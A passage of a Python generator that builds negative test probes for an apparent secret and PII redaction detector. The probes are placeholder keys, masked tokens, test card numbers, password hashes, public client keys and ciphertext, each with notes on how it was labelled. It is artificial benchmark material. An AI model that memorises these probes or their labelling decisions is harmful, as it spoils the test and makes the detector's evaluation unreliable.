          ('pk_test_TYooMQauvdEDq54NiTphI7jx', None)]
@neg('vendor-doc-examples', n=10)
def _():
    a, b = pick(DOC_EX)
    return pick([lambda: c_write('docs/quickstart.md', '## Configure\n\n```\nexport KEY=%s\n%s\n```\n' % (a, ('export SECRET=' + b) if b else '')), lambda: c_gh_comment('Per the docs example `%s`%s, the SDK should pick it up.' % (a, (' / `%s`' % b) if b else ''))])()
@neg('placeholder-angle')
def _(): return c_write('README.md', '```bash\ncurl https://api.acmecorp.io/v1/me -H "Authorization: Bearer %s"\nexport OPENAI_API_KEY=%s\n```' % (pick(['<YOUR_API_KEY>', '<token>', 'YOUR_TOKEN_HERE', '$TOKEN']), pick(['sk-...', '<your-key>', 'sk-xxxxxxxxxxxxxxxxxxxxxxxx', 'your_openai_key_here'])))
@neg('placeholder-gha-secrets')
def _(): return c_write('.github/workflows/deploy.yml', 'jobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@%s\n      - run: ./deploy.sh\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n          DB_PASSWORD: ${{ secrets.DB_PASSWORD }}\n' % sha1())
@neg('placeholder-helm')
def _(): return c_write('charts/api/templates/secret.yaml', 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: {{ include "api.fullname" . }}\nstringData:\n  password: {{ .Values.db.password | quote }}\n  apiKey: "{{ required "apiKey" .Values.apiKey }}"\n')
@neg('placeholder-format-strings')
def _(): return c_write('app/db.py', 'DSN = "postgresql://%(user)s:%(password)s@%(host)s/%(db)s"\nURL = f"redis://:{password}@{host}:6379"\ntpl = "password={password}"\n')
@neg('env-refs-code')
def _(): return c_write(*pick([('app.py', 'API_KEY = os.environ["STRIPE_SECRET_KEY"]\nDB_PASSWORD = os.getenv("DB_PASSWORD")\n'), ('index.js', 'const token = process.env.GITHUB_TOKEN;\nconst pw = process.env.DB_PASSWORD ?? "";\n'), ('Main.java', 'String pw = System.getenv("DB_PASSWORD");\n'), ('config.rb', 'password: ENV.fetch("DB_PASSWORD")\n'), ('main.go', 'secret := os.Getenv("CLIENT_SECRET")\n')]))
@neg('env-refs-shell-compose')
def _(): return c_write('docker-compose.yml', 'services:\n  db:\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?err}\n      DATABASE_URL: postgres://app:${DB_PASSWORD}@db:5432/app\n      REDIS_URL: redis://:$REDIS_PASSWORD@cache:6379\n')
@neg('default-weak-example', note='decision: docs/sample configs with obvious defaults (changeme, password, secret, admin) are placeholders, not leaks')
def _(): return c_write('docs/install.md', 'Default login is `admin` / `%s`; change it on first boot.\n\n```yaml\npassword: %s\n```' % (pick(['changeme', 'admin', 'password']), pick(['changeme', 'CHANGE_ME', 'your-password-here', 'secret'])))
@neg('mask-markers')
def _(): return pick(TEXT_CARRIERS)(pick(['API key: sk_live_' + '*' * 20 + rs(DG, 4), 'password: ********', 'token=[REDACTED]', 'Authorization: Bearer <redacted>', 'card •••• •••• •••• %s' % rs(DG, 4), 'client_secret: "xxxxxxxxxxxxxxxxxxxxxxxx"', 'DB_PASSWORD=*****']))
@neg('mask-terraform-sensitive')
def _(): return c_gh_comment('```\n  # aws_db_instance.main will be updated in-place\n  ~ resource "aws_db_instance" "main" {\n        id       = "db-%s"\n      ~ password = (sensitive value)\n        username = "admin"\n    }\nPlan: 0 to add, 1 to change, 0 to destroy.\n```' % rs(UP + DG, 26))
@neg('mask-ansible-vault')
def _(): return c_write('group_vars/prod/vault.yml', 'db_password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n%s\n' % '\n'.join('  ' + rs(DG + 'abcdef', 80) for _ in range(5)))
@neg('mask-ci-log-stars')
def _(): return c_gitlab('```\n' + '\n'.join(ci_log_lines(50)) + '\n$ docker login -u gitlab-ci-token -p [MASKED] registry.gitlab.com\nLogin Succeeded\n$ echo $NPM_TOKEN\n***\n```')
@neg('num-order-invoice', note='digit groups fail Luhn')
def _():
    a, b = luhn_fail(12), luhn_fail(16)
    return c_zendesk('Order %s / invoice %s shipped; ref %s' % (' '.join(a[k:k + 4] for k in range(0, 12, 4)), 'INV-' + luhn_fail(10), ' '.join(b[k:k + 4] for k in range(0, 16, 4))))
@neg('num-tracking')
def _(): return c_email('Your parcel ships with UPS 1Z%s%s, FedEx %s, USPS %s.' % (rs(UP + DG, 6), rs(DG, 10), luhn_fail(12), '9400' + luhn_fail(18)))
@neg('num-imei', note='IMEIs are Luhn-valid 15-digit numbers; device identifiers, not in the promised PII types')
def _(): return req('https://api.acme-mdm.io/v1/devices', {"devices": [{"imei": luhn_complete('35' + rs(DG, 6), 15), "model": "Pixel 9", "os": "15"} for _ in range(4)]}, 'mdm', 'register')
@neg('num-isbn')
def _(): return c_write('data/books.csv', 'isbn13,title\n' + '\n'.join('978-%d-%d-%d-%d,%s' % (R.randint(0, 9), R.randint(100, 999), R.randint(10000, 99999), R.randint(0, 9), rs(LO, 8).title()) for _ in range(20)))
@neg('num-timestamps')
def _(): return req('https://http-intake.logs.datadoghq.eu/api/v2/logs', [{"timestamp": R.randint(1.7e12, 1.8e12), "duration_ns": R.randint(10**8, 10**11), "message": "GET /health 200 in %dms at %d" % (R.randint(1, 90), R.randint(1.7e12, 1.8e12)), "ddtags": "env:prod"} for _ in range(15)], 'datadog', 'send_logs')
@neg('num-versions-builds')
def _(): return c_slack('Released build 2026.11.%d.%d (api 4.%d.%d, android versionCode %d, iOS %d.%d (%d))' % (R.randint(1, 30), R.randint(1000, 9999), R.randint(0, 30), R.randint(0, 30), R.randint(10**8, 10**9), R.randint(10, 20), R.randint(0, 9), R.randint(10**5, 10**6)))
@neg('num-coordinates-prices')
def _(): return req('https://api.acmecorp.io/v1/stores', {"stores": [{"lat": round(R.uniform(-60, 60), 7), "lng": round(R.uniform(-170, 170), 7), "price_eur": round(R.uniform(1, 999), 2), "revenue_cents": R.randint(10**9, 10**12)} for _ in range(20)]}, 'http', 'post')
@neg('num-phone-like-ids', note='digit groups that resemble phones but are account/case numbers')
def _():
    a = luhn_fail(12)
    return c_zendesk('Case %s escalated, order reference %s' % (' '.join(a[k:k + 4] for k in range(0, 12, 4)), '0%s %s %s' % (rs(DG, 3), rs(DG, 4), rs(DG, 4))))
@neg('num-stats-table')
def _(): return c_write('reports/latency.csv', 'endpoint,p50_us,p99_us,count\n' + '\n'.join('/v1/%s,%d,%d,%d' % (rs(LO, 6), R.randint(100, 9000), R.randint(10**4, 10**6), R.randint(10**6, 10**10)) for _ in range(40)))
@neg('doc-test-cards', note='processor-published test card numbers')
def _(): return c_write('docs/testing.md', 'Use %s with any future expiry; declines: 4000 0000 0000 0002.' % pick(['4242 4242 4242 4242', '4111 1111 1111 1111', '5555 5555 5555 4444', '3782 822463 10005']))
@neg('email-git-remotes')
def _(): return req('mcp://shell/tools/exec', {"command": "git remote -v", "stdout": "origin\tgit@github.com:acme/%s.git (fetch)\norigin\tgit@github.com:acme/%s.git (push)\nmirror\tssh://git@gitlab.com/acme/%s.git (push)" % ((rs(LO, 6),) * 3)}, 'shell', 'exec')
@neg('email-envelope-role-addresses', note='DEBATABLE: role mailboxes (oncall@, billing@, bot@ at a company domain) in an email-send envelope; redacting them breaks the send')
def _(): return c_email('Nightly report attached: %d jobs ok, %d failed.' % (R.randint(100, 999), R.randint(0, 9)), env=(pick(['oncall', 'billing', 'ops-team', 'alerts']) + '@acmecorp.io', pick(['bot', 'reports', 'ci']) + '@acmecorp.io'))
@neg('email-sentry-dsn', note='decision: DSNs are public client config (public key only), not e-mail or secret')
def _(): return c_write('src/sentry.ts', 'Sentry.init({ dsn: "https://%s@o%d.ingest.us.sentry.io/%d", tracesSampleRate: 0.1 });\n' % (rs(HEX, 32), R.randint(10**5, 10**7), R.randint(10**6, 10**7)))
@neg('email-noreply-role', note='decision: no-reply/notification system addresses are not a person')
def _(): return c_email('From: GitHub <noreply@github.com>\nReply-To: notifications@github.com\nSender: no-reply@accounts.google.com\nbounce: bounces+%d@em.sendgrid.net' % R.randint(10**6, 10**7))
@neg('email-reserved-domains')
def _(): return c_write('tests/fixtures/users.json', json.dumps([{"email": "%s@%s" % (rs(LO, 6), pick(['example.com', 'example.org', 'test.example', 'mail.test', 'foo.invalid'])), "name": "Test User"} for _ in range(10)]))
@neg('at-scoped-packages')
def _(): return c_write('package.json', json.dumps({"name": "@acme/web", "dependencies": {"@types/node@20.11.5" if False else "@types/node": "^20.11.5", "@aws-sdk/client-s3": "3.6%02d.0" % R.randint(0, 99), "@babel/core": "7.26.0"}, "resolutions": {"@babel/traverse@7.23.2": "7.26.0"}}, indent=2) + '\n// npm i @tanstack/react-query@5.%d.0 lodash@4.17.21' % R.randint(0, 60))
@neg('at-decorators-css')
def _(): return c_write(*pick([('app.py', '@app.route("/v1/users/<int:uid>")\n@login_required\ndef get_user(uid):\n    ...\n'), ('Foo.java', '@Override\n@Transactional(readOnly = true)\npublic User find(long id) { return repo.findById(id); }\n'), ('styles.css', '@import url("base.css");\n@media (min-width: 1024px) { .grid { gap: 2rem } }\n@supports (display:grid) { .x{display:grid} }\n'), ('ng.ts', '@Component({selector: "app-root", templateUrl: "./app.html"})\nexport class App {}\n')]))
@neg('at-mentions-handles')
def _(): return c_slack('cc @%s @%s — see commit by %s@%s in PR #%d' % (rs(LO, 6), rs(LO, 5), rs(LO, 5), sha1()[:7], R.randint(100, 9999)))
@neg('prose-password-policy')
def _(): return c_notion('Password policy: passwords must be at least 14 characters, include a number and a symbol, and rotate every 90 days. Never share your password or API token in Slack; use the vault. Reset links expire after 30 minutes.')
@neg('prose-reset-notice')
def _(): return c_email('Hi, we received a request to reset the password for your account. If this was you, use the link in the app. Your password was not changed. — Acme Security')
@neg('prose-token-docs')
def _(): return c_write('docs/auth.md', 'Create a personal access token under Settings → Developer settings, then set `GITHUB_TOKEN`. Tokens start with `ghp_` and are 40 characters long. Stripe secret keys start with `sk_live_`; publishable keys with `pk_live_`. The API key field is required.')
@neg('prose-password-field-schema')
def _(): return c_write('openapi.yaml', 'components:\n  schemas:\n    Login:\n      type: object\n      required: [username, password]\n      properties:\n        username: {type: string}\n        password: {type: string, format: password, minLength: 12}\n        api_key: {type: string, description: "Your API key"}\n')
@neg('html-login-form')
def _(): return c_write('templates/login.html', '<form method="post" action="/login"><input type="email" name="email" autocomplete="username"><input type="password" name="password" id="password" autocomplete="current-password" placeholder="Password"><button>Sign in</button></form>')
@neg('hash-bcrypt', note='a password hash is not the password')
def _(): return req('https://api.acmecorp.io/v1/admin/users/import', {"users": [{"username": rs(LO, 7), "password_hash": "$2b$12$" + rs('./' + AN, 53)} for _ in range(5)]}, 'http', 'post')
@neg('hash-argon2-pbkdf2', note='password hashes')
def _(): return c_write('fixtures/users.sql', "INSERT INTO users (name, password) VALUES ('%s', '$argon2id$v=19$m=65536,t=3,p=4$%s$%s'), ('%s', 'pbkdf2_sha256$870000$%s$%s=');\n" % (rs(LO, 6), b64(bytes(R.getrandbits(8) for _ in range(16))).rstrip('='), b64(bytes(R.getrandbits(8) for _ in range(32))).rstrip('='), rs(LO, 6), rs(AN, 22), b64(bytes(R.getrandbits(8) for _ in range(32)))[:43]))
@neg('webhook-hmac-signatures', note='decision: a signature covers one payload and cannot be replayed as a credential')
def _(): return req('https://api.acmecorp.io/hooks/github', {"action": "opened", "number": R.randint(1, 999)}, 'http', 'forward_webhook', headers={"X-Hub-Signature-256": "sha256=" + sha256(), "X-GitHub-Delivery": uid(), "Stripe-Signature": "t=%d,v1=%s,v0=%s" % (R.randint(1.7e9, 1.8e9), sha256(), sha256())})
@neg('csp-nonce')
def _(): return c_write('templates/base.html', '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; script-src \'nonce-%s\'">\n<script nonce="%s">init()</script>' % ((b64(bytes(R.getrandbits(8) for _ in range(18))),) * 2))
@neg('captcha-site-key', note='reCAPTCHA/Turnstile site keys are public')
def _(): return c_write('templates/signup.html', '<div class="g-recaptcha" data-sitekey="6L%s"></div>\n<div class="cf-turnstile" data-sitekey="0x4AAAAAAA%s"></div>' % (rs(AN + '-_', 38), rs(AN + '-_', 14)))
@neg('firebase-web-config', note='decision: Firebase web apiKey is public by design (Firebase docs); restricted by rules')
def _(): return c_write('src/firebase.js', 'const firebaseConfig = {\n  apiKey: "AIza%s",\n  authDomain: "acme-%s.firebaseapp.com",\n  projectId: "acme-%s",\n  storageBucket: "acme-%s.appspot.com",\n  messagingSenderId: "%s",\n  appId: "1:%s:web:%s",\n  measurementId: "G-%s"\n};\n' % (rs(AN + '-_', 35), 'prod', 'prod', 'prod', rs(DG, 12), rs(DG, 12), rs(HEX, 22), rs(UP + DG, 10)))
@neg('publishable-keys', note='decision: Stripe pk_live_ and Mapbox pk. tokens are published in web pages by design')
def _(): return c_write('src/checkout.ts', 'const stripe = Stripe("pk_live_51%s");\nmapboxgl.accessToken = "pk.eyJ1IjoiYWNtZSIsImEiOiJj%s.%s";\n' % (rs(AN, 96), rs(AN, 20), rs(AN + '-_', 22)))
@neg('algolia-search-only', note='decision: search-only Algolia key is shipped to browsers')
def _(): return c_write('src/search.js', "const client = algoliasearch('%s', '%s'); // search-only key\n" % (rs(UP + DG, 10), rs(HEX, 32)))
@neg('twilio-account-sid', note='Account SID is an identifier, not a credential')
def _(): return c_slack('Twilio account %s, messaging service MG%s, message SM%s delivered' % ('AC' + rs(HEX, 32), rs(HEX, 32), rs(HEX, 32)))
@neg('oauth-public-client-id')
def _(): return c_write('src/auth.ts', 'const GOOGLE_CLIENT_ID = "%d-%s.apps.googleusercontent.com";\nconst GITHUB_CLIENT_ID = "Iv1.%s";\n' % (R.randint(10**11, 10**12), rs(LO + DG, 32), rs(HEX, 16)))
@neg('k8s-dump-big', note='kubectl get pods -o json, many uids/digests, secretKeyRef only')
def _(): return c_slack("```\n" + json.dumps({"apiVersion": "v1", "kind": "List", "items": [k8s_pod(i) for i in range(R.randint(6, 20))]}, indent=2) + "\n```")
@neg('tfstate-no-secrets-big')
def _(): return c_commit('infra/terraform.tfstate', json.dumps({"version": 4, "serial": R.randint(1, 400), "lineage": uid(), "resources": [{"type": "aws_instance", "name": "web%d" % j, "instances": [{"attributes": {"id": "i-0" + rs(HEX, 16), "ami": "ami-0" + rs(HEX, 16), "arn": "arn:aws:ec2:eu-west-1:%d:instance/i-0%s" % (R.randint(10**11, 10**12), rs(HEX, 16))}, "sensitive_attributes": [], "private": b64(json.dumps({"schema_version": "1"}))}]} for j in range(R.randint(10, 40))]}, indent=2))
@neg('ci-log-big')
def _(): return req('https://api.github.com/repos/acme/infra/issues/%d/comments' % R.randint(10, 999), {"body": "CI log:\n```\n" + '\n'.join(ci_log_lines(R.randint(200, 600))) + "\n```"}, 'github', 'create_issue_comment')
@neg('web-page-big')
def _(): return req('https://api.apify.com/v2/datasets/%s/items' % rs(AN, 17), [{"url": "https://docs.acmecorp.io/%s" % rs(LO, 6), "html": html_page()}], 'scraper', 'push_items')
@neg('search-results-big')
def _(): return req('https://api.acmecorp.io/agent/memory', {"query": rs(LO, 7), "results": search_results(R.randint(20, 60))}, 'memory', 'store_search_results')
@neg('csv-orders-big')
def _(): return c_write('exports/orders.csv', '\n'.join(csv_orders(R.randint(200, 600))))
@neg('email-thread-bots-big')
def _(): return c_email(email_thread(R.randint(6, 15)))
@neg('aws-describe-instances-big')
def _(): return req('https://api.acmecorp.io/agent/tool-result', {"tool": "aws ec2 describe-instances", "output": {"Reservations": [{"ReservationId": "r-0" + rs(HEX, 16), "OwnerId": str(R.randint(10**11, 10**12)), "Instances": [{"InstanceId": "i-0" + rs(HEX, 16), "ImageId": "ami-0" + rs(HEX, 16), "LaunchTime": ts(), "PrivateIpAddress": "10.0.%d.%d" % (R.randint(0, 255), R.randint(0, 255)), "SubnetId": "subnet-0" + rs(HEX, 16), "VpcId": "vpc-0" + rs(HEX, 16), "NetworkInterfaces": [{"NetworkInterfaceId": "eni-0" + rs(HEX, 16), "MacAddress": ':'.join(rs(HEX, 2) for _ in range(6)), "OwnerId": str(R.randint(10**11, 10**12))}], "BlockDeviceMappings": [{"DeviceName": "/dev/xvda", "Ebs": {"VolumeId": "vol-0" + rs(HEX, 16), "AttachTime": ts()}}], "IamInstanceProfile": {"Arn": "arn:aws:iam::%d:instance-profile/web" % R.randint(10**11, 10**12), "Id": "AIPA" + rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 17)}, "Tags": [{"Key": "Name", "Value": "web-%d" % j}]} for j in range(4)]} for _ in range(R.randint(5, 12))], "ResponseMetadata": {"RequestId": uid()}}}, 'agent', 'store_tool_result')
@neg('observability-spans-big')
def _(): return req('https://trace.agent.datadoghq.eu/api/v0.2/traces', [[{"trace_id": R.randint(10**18, 9 * 10**18), "span_id": R.randint(10**18, 9 * 10**18), "parent_id": R.randint(10**18, 9 * 10**18), "name": pick(['http.request', 'postgres.query', 'redis.command']), "resource": "GET /v1/orders/%d" % R.randint(10**5, 10**7), "service": "api", "start": R.randint(1.7e18, 1.8e18), "duration": R.randint(10**5, 10**9), "meta": {"http.status_code": "200", "db.row_count": str(R.randint(0, 500)), "version": "1.14.%d" % R.randint(0, 9), "_dd.p.tid": rs(HEX, 16)}, "metrics": {"_sampling_priority_v1": 1}} for _ in range(R.randint(30, 120))]], 'datadog', 'send_traces')
@neg('db-query-result-big')
def _(): return req('https://api.acmecorp.io/agent/tool-result', {"tool": "sql", "query": "select id, customer_id, amount_cents, currency, stripe_charge, created_at, sha from payments order by created_at desc limit 300", "columns": ["id", "customer_id", "amount_cents", "currency", "stripe_charge", "created_at", "sha"], "rows": [[R.randint(10**6, 10**8), uid(), R.randint(100, 10**7), pick(['EUR', 'USD']), 'ch_3' + rs(AN, 23), ts(), rs(HEX, 40)] for _ in range(R.randint(80, 300))]}, 'agent', 'store_tool_result')
@neg('i18n-password-strings', note='locale files: password keys whose values are UI words in many languages')
def _(): return c_write('locales/%s.json' % pick(['de', 'fr', 'es', 'pt', 'nl', 'pl', 'ru', 'ja']), json.dumps({"login": {"password": pick(['Passwort', 'Mot de passe', 'Contraseña', 'Senha', 'Wachtwoord', 'Hasło', 'Пароль', 'パスワード']), "forgot_password": pick(['Passwort vergessen?', 'Mot de passe oublié ?', '¿Olvidaste tu contraseña?', 'Esqueceu a senha?']), "api_key": pick(['API-Schlüssel', 'Clé API', 'Clave de API']), "token_expired": pick(['Sitzung abgelaufen', 'Session expirée', 'Sesión caducada'])}}, ensure_ascii=False, indent=2))
@neg('idempotency-keys')
def _(): return req('https://api.stripe.com/v1/customers', {"email": "billing@example.com", "metadata": {"crm_id": str(R.randint(10**5, 10**6))}}, 'stripe', 'create_customer', headers={"Idempotency-Key": uid(), "Stripe-Version": "2024-06-20"})
@neg('git-lfs-pointers')
def _(): return c_write('assets/model.bin', 'version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n' % (sha256(), R.randint(10**6, 10**10)))
@neg('kubeconfig-ca-only', note='certificate-authority-data is the public CA certificate; auth via exec plugin')
def _(): return c_write('/home/agent/.kube/config', 'apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: %s\n    server: https://%s.gr7.eu-west-1.eks.amazonaws.com\n  name: prod\nusers:\n- name: prod\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [eks, get-token, --cluster-name, prod]\n' % (b64(pem('CERTIFICATE', 800)), rs(HEX.upper(), 32)))
@neg('docker-config-credstore')
def _(): return c_write('/home/agent/.docker/config.json', json.dumps({"auths": {"ghcr.io": {}, "%d.dkr.ecr.eu-west-1.amazonaws.com" % R.randint(10**11, 10**12): {}}, "credsStore": "desktop", "credHelpers": {"gcr.io": "gcloud"}}, indent=2))
@neg('wireguard-public-keys')
def _(): return c_write('/etc/wireguard/peers.conf', '\n'.join('[Peer]\nPublicKey = %s\nAllowedIPs = 10.8.0.%d/32\nEndpoint = vpn%d.acmecorp.io:51820\n' % (b64(bytes(R.getrandbits(8) for _ in range(32))), j, j) for j in range(2, 8)))
@neg('s3-listing-keys')
def _(): return req('https://api.acmecorp.io/v1/index', {"Contents": [{"Key": "uploads/%s/%s.%s" % (uid(), rs(HEX, 40), pick(['jpg', 'pdf', 'parquet'])), "ETag": '"%s"' % rs(HEX, 32), "Size": R.randint(10**3, 10**8), "StorageClass": "STANDARD"} for _ in range(40)], "NextContinuationToken": b64(bytes(R.getrandbits(8) for _ in range(60)))}, 'aws', 's3_list_objects')
@neg('trace-context-headers')
def _(): return req('https://api.acmecorp.io/v1/orders', {"sku": "A-1"}, 'http', 'post', headers={"traceparent": "00-%s-%s-01" % (rs(HEX, 32), rs(HEX, 16)), "x-datadog-trace-id": str(R.randint(10**18, 9 * 10**18)), "X-Cloud-Trace-Context": "%s/%d;o=1" % (rs(HEX, 32), R.randint(10**18, 9 * 10**18)), "X-Request-ID": uid()})
@neg('analytics-ids')
def _(): return c_write('src/analytics.ts', 'gtag("config", "G-%s");\nfbq("init", "%d");\nhotjar(%d);\nsegment.load("%s"); // client-side write key is public\n' % (rs(UP + DG, 10), R.randint(10**14, 10**16), R.randint(10**6, 10**7), rs(AN, 32)))
@neg('slack-ids-ts')
def _(): return req('https://slack.com/api/reactions.add', {"channel": "C0" + rs(UP + DG, 9), "timestamp": "%d.%06d" % (R.randint(1.7e9, 1.8e9), R.randint(0, 999999)), "name": "white_check_mark", "user": "U0" + rs(UP + DG, 9), "team": "T0" + rs(UP + DG, 8)}, 'slack', 'reactions.add')
@neg('historical-dates-people', note='dates beside famous names that are not birth dates')
def _(): return c_notion(pick(['Linus Torvalds announced Linux on 25 August 1991.', 'Tim Berners-Lee published the first website on 6 August 1991.', 'Ada Lovelace Day is celebrated on the second Tuesday of October; the release shipped on March 04, 2024.', 'Grace Hopper retired from the Navy on 14 August 1986.', 'Meeting with Miguel Hernández moved to 12 March 2026.']))
@neg('dates-in-records')
def _(): return req('https://api.acmecorp.io/v1/subscriptions', {"items": [{"customer": "cus_" + rs(AN, 14), "created": "%d-%02d-%02d" % (R.randint(2015, 2026), R.randint(1, 12), R.randint(1, 28)), "renewal_date": "2027-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))} for _ in range(15)]}, 'http', 'post')
@neg('swift-bic-vat', note='bank/company identifiers, not personal data')
def _(): return c_email('Remit to Globex GmbH, BIC %s, VAT DE%s, company reg. HRB %d.' % (rs(UP, 6) + rs(UP + DG, 2), rs(DG, 9), R.randint(10000, 99999)))
@neg('travel-policy-passport-word')
def _(): return c_notion('Travel policy: bring your passport to the Lisbon offsite; booking reference %s, flight TP%d, seat %d%s.' % (rs(UP + DG, 6), R.randint(100, 9999), R.randint(1, 40), pick('ABCDEF')))
@neg('hex-colors-binary-dump')
def _(): return c_gh_comment('```\n' + '\n'.join('%08x  %s  |%s|' % (k * 16, ' '.join(rs(HEX, 2) for _ in range(16)), rs(string.ascii_letters + '.', 16)) for k in range(40)) + '\n```')
@neg('uuid-secret-name', note='key names suggesting secrets with identifier values: secret_id, token_type, key_id')
def _(): return req('https://api.acmecorp.io/v1/audit', {"secret_id": uid(), "token_type": "Bearer", "key_id": rs(UP + DG, 20), "password_changed_at": ts(), "api_key_last4": rs(DG, 4), "token_expires_in": 3600}, 'http', 'post')
@neg('secret-manager-refs')
def _(): return c_write('deploy/env.yaml', 'DB_PASSWORD: arn:aws:secretsmanager:eu-west-1:%d:secret:prod/db-%s\nAPI_TOKEN: op://Engineering/Vendor/credential\nSTRIPE_KEY: vault:secret/data/stripe#key\nGCP_KEY: projects/acme/secrets/api-key/versions/latest\n' % (R.randint(10**11, 10**12), rs(AN, 6)))
@neg('random-filenames-hashes')
def _(): return c_slack('uploaded: ' + ', '.join('%s.%s' % (rs(HEX, 32), pick(['png', 'pdf'])) for _ in range(10)))
@neg('conn-placeholder-password')
def _(): return c_write('README.md', 'DATABASE_URL=postgres://user:%s@localhost:5432/app\nmongodb://admin:%s@localhost:27017\n' % (pick(['PASSWORD', 'password', '<password>', '${DB_PASSWORD}', '****']), pick(['<password>', 'PASSWORD', '$MONGO_PW'])))
@neg('lorem-code-identifiers')
def _(): return c_write('src/auth/PasswordResetTokenService.java', 'public class PasswordResetTokenService {\n  private final TokenRepository tokenRepository;\n  public boolean validatePasswordResetToken(String token) { return tokenRepository.existsByTokenAndExpiresAtAfter(token, Instant.now()); }\n  private static final String PASSWORD_RESET_TOKEN_HEADER = "X-Password-Reset-Token";\n}\n')
@neg('ssh-known-hosts-fingerprints')
def _(): return c_write('/home/ci/.ssh/known_hosts', '\n'.join('|1|%s=|%s= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s' % (b64(bytes(R.getrandbits(8) for _ in range(20)))[:27], b64(bytes(R.getrandbits(8) for _ in range(20)))[:27], rs(AN + '+/', 43)) for _ in range(6)) + '\nSHA256:%s' % b64(bytes(R.getrandbits(8) for _ in range(32))).rstrip('='))
@neg('wasm-pdf-base64-attachment')
def _(): return req('https://api.sendgrid.com/v3/mail/send', {"personalizations": [{"to": [{"email": "ap@globex.example"}]}], "from": {"email": "billing@acmecorp.io"}, "subject": "Invoice", "content": [{"type": "text/plain", "value": "Invoice attached."}], "attachments": [{"content": b64(b'%PDF-1.7\n' + bytes(R.getrandbits(8) for _ in range(6000))), "filename": "invoice.pdf", "type": "application/pdf"}]}, 'email', 'send')
@neg('gitlab-ci-vars-refs')
def _(): return c_write('.gitlab-ci.yml', 'deploy:\n  script:\n    - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin $CI_REGISTRY\n    - helm upgrade api ./chart --set db.password=$DB_PASSWORD\n')
@neg('kube-secret-refs-sealed', note='SealedSecret ciphertext is encrypted for the cluster key')
def _(): return c_write('k8s/sealed.yaml', 'apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: db\nspec:\n  encryptedData:\n    password: Ag%s\n' % rs(AN + '+/', 600))
@neg('sops-encrypted', note='SOPS ENC[] values are ciphertext')
def _(): return c_write('secrets.enc.yaml', 'db_password: ENC[AES256_GCM,data:%s,iv:%s,tag:%s,type:str]\nsops:\n  age:\n    - recipient: age1%s\n' % (b64(bytes(R.getrandbits(8) for _ in range(18))), b64(bytes(R.getrandbits(8) for _ in range(32))), b64(bytes(R.getrandbits(8) for _ in range(16))), rs('qpzry9x8gf2tvdw0s3jn54khce6mua7l', 58)))

NEG_MODE = True
DEBATABLE = {'id-stripe-pi-client-secret', 'email-envelope-role-addresses', 'num-imei', 'firebase-web-config', 'email-sentry-dsn', 'default-weak-example'}
for fam, (f, n, note) in NEG.items():
    for i in range(n):
        add('neg/%s/%d' % (fam, i), fam, 'negative', [], f(), note)
        if fam in DEBATABLE: PROBES[-1]['debatable'] = True

def leaves(o, out):
    if isinstance(o, dict):
        for k, v in o.items(): out.append(k); leaves(v, out)
    elif isinstance(o, list):
        for v in o: leaves(v, out)
    elif isinstance(o, str): out.append(o)
    return out
bad = 0
for p in PROBES:
    rq = p['request']; L = leaves(rq.get('body'), []) + list((rq.get('headers') or {}).values()) + [rq['url']]
    miss = [v for v in p['values'] if not any(v in x for x in L)]
    if miss and rq.get('tool') == 'github' and rq.get('operation') == 'create_or_update_file':
        dec = base64.b64decode(rq['body']['content']).decode()
        if all(v in dec for v in miss):
            p['plain'] = (p.get('plain') or []) + p['values']; p['values'] = [rq['body']['content']]
            p['note'] = ((p.get('note') or '') + ' value carried base64-encoded by the GitHub contents API').strip()
            miss = []
    if miss:
        bad += 1; print('VALUE NOT IN BODY', p['name'], miss[:1], file=sys.stderr)
assert bad == 0, bad
with open(sys.argv[sys.argv.index('--out') + 1] if '--out' in sys.argv else os.path.join(os.path.dirname(os.path.abspath(__file__)), 'probes.jsonl'), 'w') as fh:
    for p in PROBES:
        fh.write(json.dumps(p, ensure_ascii=False) + '\n')
from collections import Counter
c = Counter(p['label'] for p in PROBES); ev_n = sum(1 for p in PROBES if p['family'].startswith('evasion'))
print('probes', len(PROBES), dict(c), 'evasions', ev_n, 'neg families', len(NEG), file=sys.stderr)
